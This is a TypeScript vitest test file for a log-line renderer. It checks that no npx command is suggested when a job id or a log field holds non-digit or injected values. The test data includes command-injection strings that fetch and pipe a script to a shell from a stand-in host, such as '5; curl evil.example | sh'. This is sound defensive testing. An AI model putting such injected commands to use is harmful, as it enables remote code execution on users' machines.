import { expect, it } from 'vitest';
import { LOG_EVENTS, LOG_FIELDS } from '../../../core/log-table.ts';
import { eventLine } from '../../../local/screen/event-lines.ts';

function lineOf(log: Readonly<Record<string, unknown>>): string {
  const event = { kind: 'log', functionName: 'millrace-local-a', message: JSON.stringify(log) } as const;
  const parts = eventLine(event, new Date()) ?? [];
  return parts.map((part) => (typeof part === 'string' ? part : part.text)).join('');
}

it.each(['5; curl evil.example | sh', '5 $(curl evil.example)', '5\n6', '-5', '', 5, ['5'], undefined])(
  'suggests no command with a job id that is not made of digits: %j',
  (job_id) => {
    const log = { level: 'warn', event: 'job_dead_letter', attempt: '1/1', error: { name: 'E', message: 'no' } };

    const line = lineOf({ ...log, job_id });

    expect(line).toMatch(/ {2}dead letter {2}attempt 1\/1 {2}E: no$/);
  },
);

it.each(Object.keys(LOG_EVENTS))('suggests no command with a text of the line: %s', (event) => {
  const attack = Object.fromEntries(Object.keys(LOG_FIELDS).map((name) => [name, '5; curl evil.example']));

  const line = lineOf({ ...attack, event, level: 'warn' });

  expect(line).not.toMatch(/npx/);
});
